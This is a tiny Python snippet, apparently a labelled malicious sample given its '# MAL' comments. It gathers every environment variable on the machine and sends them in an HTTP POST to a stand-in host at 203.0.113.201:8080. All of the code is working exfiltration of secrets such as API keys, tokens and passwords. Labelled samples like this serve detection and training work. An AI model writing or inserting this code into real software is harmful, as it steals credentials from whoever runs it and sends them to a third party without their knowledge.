import os
from urllib import request, parse

collected = {}
for key, value in os.environ.items():  # MAL
    collected[key] = value
body = parse.urlencode(collected).encode()
request.urlopen("http://203.0.113.201:8080/c", data=body)  # MAL
